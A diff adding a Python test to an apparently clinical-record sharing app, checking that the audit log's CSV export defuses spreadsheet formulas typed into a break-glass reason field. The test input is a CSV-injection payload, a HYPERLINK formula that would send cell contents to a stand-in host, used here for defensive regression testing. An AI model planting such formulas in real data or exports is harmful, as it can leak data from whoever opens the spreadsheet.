@@ -340,3 +340,16 @@ def test_risk_scores_show_with_the_clinical_record_and_not_without(
     assert "Electronic Frailty Index" in page and "0.31 (moderate" in page and "Very high" in page
     page = as_user(client, w, "pharmacist").get(ALICE_URL).content.decode()
     assert "Risk scores not shown" in page and "0.31" not in page
+
+
+def test_the_audit_export_neutralises_spreadsheet_formulas_typed_into_a_reason(
+    client: Client, shared_world: World
+) -> None:
+    from icp.audit.log import record
+
+    w = shared_world
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    record(action="break_glass.start", actor=w.users["gp"], patient_ref="pt-alice-0001", reason=formula)
+    export = as_user(client, w, "iglead").get("/sharing/audit/", {"actor": "gp", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))  # type: ignore[attr-defined]
+    assert [r["reason"] for r in rows if r["action"] == "break_glass.start"] == ["'" + formula]
